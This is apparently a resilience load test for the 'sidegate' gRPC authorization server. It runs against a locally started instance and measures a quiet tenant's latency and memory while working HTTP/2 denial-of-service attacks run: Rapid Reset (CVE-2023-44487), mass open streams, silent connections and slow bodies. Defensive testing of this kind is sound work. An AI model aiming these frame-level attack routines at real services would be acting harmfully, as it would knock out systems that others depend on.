"""What hostile connections cost others: Rapid Reset, many streams, silent connections and bodies that never end.

    python loadtest/connections.py            about two minutes
    python loadtest/connections.py --quick    a second each, to see that it runs

Each attack has a process of its own and writes HTTP/2 frames by hand. A quiet tenant's Checks go over another
connection, and idle is measured in the same run.
"""

from __future__ import annotations

import argparse
import asyncio
import os
import re
import signal
import socket
import struct
import subprocess
import sys
import tempfile
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from itertools import count
from pathlib import Path
from time import monotonic, sleep
from typing import Final

import grpc
from isolation import QUICK, QUIET_FACTS, Durations, Timed, ask_for, served

from sidegate.authz.v1.authorization_pb2_grpc import AuthorizationServiceStub
from sidegate.authz.v1.facts_pb2 import ApplyFactsRequest
from sidegate.authz.v1.facts_pb2_grpc import FactsServiceStub

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING = 0, 1, 3, 4, 6
END_HEADERS, ACK = 4, 1
CANCEL: Final = 8
PATH: Final = b"/sidegate.authz.v1.AuthorizationService/Check"
CONNECTIONS: Final = 300
"""Silent connections, and connections with a body that never ends."""
STREAMS: Final = 1_000
"""Streams that one connection tries to have open."""
GOAL_LATENCY: Final = 3.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def headers() -> bytes:
    """Return the headers of a Check, without compression."""

    def text(value: bytes) -> bytes:
        return bytes((len(value),)) + value

    # Entries of the static table: 3 is `:method: POST`, 6 `:scheme: http`; 1, 4 and 31 are names.
    known = b"\x83\x86\x04" + text(PATH) + b"\x01" + text(b"localhost") + b"\x0f\x10" + text(b"application/grpc")
    return known + b"\x00" + text(b"te") + text(b"trailers")


def connected(address: str) -> socket.socket:
    """Open a connection and send the preface."""
    host, _, port = address.rpartition(":")
    wire = socket.create_connection((host, int(port)))
    wire.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return wire


def drained(wire: socket.socket) -> bool:
    """Read what has arrived; return whether the connection is open."""
    wire.setblocking(False)
    try:
        while True:
            if not wire.recv(65_536):
                return False
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        wire.setblocking(True)


def resets(address: str) -> Iterator[str]:
    """Open a stream and reset it, again and again (CVE-2023-44487)."""
    asked, reset, done = headers(), struct.pack(">I", CANCEL), 0
    while True:
        wire = connected(address)
        for stream in count(1, 2):
            try:
                wire.sendall(frame(HEADERS, END_HEADERS, stream, asked) + frame(RST_STREAM, 0, stream, reset))
            except OSError:
                break
            done += 1
            if stream % 64 == 1 and not drained(wire):
                break
            yield f"{done} resets"


def many_streams(address: str) -> Iterator[str]:
    """Open very many streams on one connection, and leave them open."""
    wire, asked = connected(address), headers()
    for stream in range(1, 2 * STREAMS, 2):
        wire.sendall(frame(HEADERS, END_HEADERS, stream, asked))
    while True:
        sleep(0.05)
        yield f"{STREAMS} streams asked for, connection {'open' if drained(wire) else 'closed'}"


def silent(address: str) -> Iterator[str]:
    """Open connections and send nothing."""
    host, _, port = address.rpartition(":")
    wires = [socket.create_connection((host, int(port))) for _ in range(CONNECTIONS)]
    yield from _open_ones(wires)


def slow_bodies(address: str) -> Iterator[str]:
    """Begin a call on each of many connections, announce a message of a megabyte, and send a byte now and then."""
    wires = [connected(address) for _ in range(CONNECTIONS)]
    for wire in wires:
        announced = b"\0" + struct.pack(">I", 1_000_000)
        wire.sendall(frame(HEADERS, END_HEADERS, 1, headers()) + frame(DATA, 0, 1, announced))
    yield from _open_ones(wires, before=lambda wire: wire.sendall(frame(DATA, 0, 1, b"x")))


def _open_ones(wires: list[socket.socket], before: Callable[[socket.socket], None] = lambda _: None) -> Iterator[str]:
    open_ones = [*wires]
    while True:
        for wire in [*open_ones]:
            try:
                before(wire)
                alive = drained(wire)
            except OSError:
                alive = False
            if not alive:
                open_ones.remove(wire)
        sleep(0.2)
        yield f"{len(open_ones)} of {len(wires)} connections open"


ATTACKS: Final[Mapping[str, Callable[[str], Iterator[str]]]] = {
    "Rapid Reset": resets,
    "many streams": many_streams,
    "silent connections": silent,
    "slow bodies": slow_bodies,
}


def attack(name: str, address: str) -> None:
    """Attack until SIGTERM, at a lower priority, then print how far it came and for how long."""
    os.nice(10)
    ended = False

    def end(*_: object) -> None:
        nonlocal ended
        ended = True

    signal.signal(signal.SIGTERM, end)
    print("begun", flush=True)
    began, state = monotonic(), "nothing"
    for state in ATTACKS[name](address):  # noqa: B007 - the last one is printed
        if ended:
            break
    print(f"{state} in {monotonic() - began:.0f} s", flush=True)


@contextmanager
def attacking(name: str, address: str) -> Iterator[subprocess.Popen[str]]:
    """Run an attack in a process of its own."""
    command = [sys.executable, __file__, "--attack", name, "--address", address]
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "begun\n"
        try:
            yield process
        finally:
            process.terminate()


def resident(pid: int) -> float:
    """Return the memory of a process, in MiB."""
    found = re.search(r"VmRSS:\s+(\d+)", Path(f"/proc/{pid}/status").read_text())
    return int(found[1]) / 1024 if found else 0.0


async def measure(durations: Durations) -> None:
    """Print a line for each attack."""
    with (
        tempfile.TemporaryDirectory(prefix="sidegate-connections-") as directory,
        served(directory) as (address, server),
    ):
        async with grpc.aio.insecure_channel(address) as channel:
            await FactsServiceStub(channel).ApplyFacts(ApplyFactsRequest(document=QUIET_FACTS))
            check = AuthorizationServiceStub(channel).Check
            await ask_for(durations.warm_up, check, Timed())
            print("| attack | what it did | idle p99, ms | p99, ms | p99 / idle | goal | failed | MiB more | result |")
            print("|-|-|-:|-:|-:|-|-:|-:|-|")
            for name in ATTACKS:
                idle, under, memory = Timed(), Timed(), resident(server.pid)
                for _ in range(durations.rounds):
                    await ask_for(durations.idle, check, idle)
                    with attacking(name, address) as process:
                        await asyncio.sleep(durations.warm_up)
                        await ask_for(durations.flood, check, under)
                        grown = resident(server.pid) - memory
                        process.terminate()
                        did, _ = await asyncio.to_thread(process.communicate)
                    await asyncio.sleep(durations.warm_up)
                ratio = under.p99 / idle.p99
                result = "reached" if ratio <= GOAL_LATENCY and not under.failed else "MISSED"
                figures = f"{idle.p99:.2f} | {under.p99:.2f} | {ratio:.1f} | <= {GOAL_LATENCY:g}, none fails"
                failed = f"{under.failed} of {under.calls:,}"
                print(f"| {name} | {did.strip()} | {figures} | {failed} | {grown:.0f} | {result} |", flush=True)


def main() -> None:
    """Print the table, or attack."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--quick", action="store_true", help="a second each")
    parser.add_argument("--attack", choices=ATTACKS, help=argparse.SUPPRESS)
    parser.add_argument("--address", help=argparse.SUPPRESS)
    options = parser.parse_args()
    if options.attack:
        attack(options.attack, options.address)
    else:
        asyncio.run(measure(QUICK if options.quick else Durations()))


if __name__ == "__main__":
    main()
